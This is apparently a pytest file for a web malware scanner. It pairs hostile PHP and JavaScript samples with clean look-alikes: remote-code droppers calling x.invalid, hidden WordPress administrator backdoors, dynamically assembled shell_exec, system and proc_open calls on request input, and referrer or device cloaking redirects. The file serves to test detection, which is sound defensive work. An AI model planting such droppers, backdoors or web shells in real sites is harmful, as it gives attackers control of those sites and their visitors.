"""Rules written on behaviour: droppers, hidden administrator accounts, cloaking redirects and
dangerous function names assembled at run time. Each shape has a look-alike that stays clean."""
from __future__ import annotations

from pathlib import Path

import pytest

from scanners.findings import Verdict
from scanners.scan import Scanner


def judge(scanner: Scanner, tmp_path: Path, name: str, text: str) -> tuple[Verdict, set[str]]:
    root = tmp_path / "app"
    root.mkdir()
    (root / name).write_text(text)
    report = scanner.scan(root)
    return report.verdict, {finding.rule for finding in report.findings}


@pytest.mark.parametrize("name,text,rule", [
    ("a.php", "<?php\n$s = 'https://x.invalid/p';\n$t = __DIR__ . '/c.php';\n"
              "file_put_contents($t, file_get_contents($s));\ninclude_once $t;\n",
     "php_remote_dropper"),
    ("b.php", "<?php\n$c = curl_init('http://x.invalid/u');\n$h = fopen('/tmp/w', 'w');\n"
              "fwrite($h, curl_exec($c));\nrequire('/tmp/w');\n", "php_remote_dropper"),
    ("c.php", "<?php\nif (sha1($_GET['t']) === 'a94a8fe5ccb19ba61c4c0873d391e987982fbbd3') {\n"
              "  wp_insert_user(['user_login' => 'x', 'user_pass' => 'y', "
              "'role' => 'administrator']);\n}\n", "php_admin_user_backdoor"),
    ("d.php", "<?php\nadd_filter('views_users', 'h');\n$i = wp_create_user('a', 'b');\n"
              "$u = new WP_User($i); $u->set_role('administrator');\n",
     "php_admin_user_hidden_plugin"),
    ("e.php", "<?php\n$a = str_replace('|', '', 's|h|e|l|l|_|e|x|e|c');\n"
              "echo $a($_POST['c']);\n", "php_assembled_function_call"),
    ("f.php", "<?php\ngoto two;\none: $f($_GET['z']); exit;\ntwo: $f = strrev('metsys');\n"
              "goto one;\n", "php_assembled_function_call"),
    ("g.php", "<?php\n$p = array('pro', 'c_op', 'en');\n"
              "array_map(implode('', $p), [$_GET['c']]);\n$q = implode('', $p);\n"
              "array_map($q, [$_GET['c']]);\n", "php_assembled_function_call"),
    ("h.js", "var r = document.referrer;\nif (r.indexOf('google.') > -1) {\n"
             "  top.location.href = atob('aHR0cHM6Ly94LmludmFsaWQv');\n}\n",
     "judol_cloaking_redirect"),
    ("i.html", "<script>if(/iPhone|Android/.test(navigator.userAgent)){location.replace("
               "String.fromCharCode(104,116,116,112,115,58,47,47,120,46,105,110,118))}</script>",
     "judol_cloaking_redirect"),
])
def test_behaviour_is_blocked(offline_scanner: Scanner, tmp_path: Path, name: str, text: str,
                              rule: str) -> None:
    verdict, rules = judge(offline_scanner, tmp_path, name, text)
    assert rule in rules and verdict != Verdict.CLEAN, rules


@pytest.mark.parametrize("name,text", [
    # A registration form: a new subscriber from the form, behind a nonce.
    ("register.php", "<?php\nif (wp_verify_nonce($_POST['n'], 'r')) {\n"
                     "  wp_insert_user(['user_login' => sanitize_user($_POST['u']), "
                     "'role' => get_option('default_role')]);\n}\n"),
    # The installer's first administrator, from its own arguments.
    ("install.php", "<?php\nfunction install($name, $pass, $mail) {\n"
                    "  $id = wp_create_user($name, $pass, $mail);\n"
                    "  (new WP_User($id))->set_role('administrator');\n}\n"),
    # A download cached to a file; the include is of the app's own template.
    ("cache.php", "<?php\n$body = file_get_contents('https://data.example.go.id/api.json');\n"
                  "file_put_contents(__DIR__ . '/cache/api.json', $body);\n"
                  "$view = __DIR__ . '/views/home.php';\ninclude $view;\n"),
    # Callbacks chosen from plain names the app allows.
    ("filters.php", "<?php\n$f = in_array($_GET['f'], ['trim', 'strtoupper'], true) ? "
                    "$_GET['f'] : 'trim';\n$g = 'html' . 'specialchars';\n"
                    "echo $g(call_user_func($f, 'x'));\n"),
    # Analytics reading the referrer and the device, and a plain mobile redirect.
    ("stats.js", "var s = /google/.test(document.referrer) ? 'search' : 'other';\n"
                 "var m = /Android|iPhone/i.test(navigator.userAgent);\n"
                 "navigator.sendBeacon('/stat', s + (m ? '1' : '0'));\n"
                 "if (m && !sessionStorage.d) { window.location.href = 'https://m.contoh.go.id/'; }\n"),
])
def test_look_alikes_stay_clean(offline_scanner: Scanner, tmp_path: Path, name: str,
                                text: str) -> None:
    verdict, rules = judge(offline_scanner, tmp_path, name, text)
    assert verdict == Verdict.CLEAN, rules
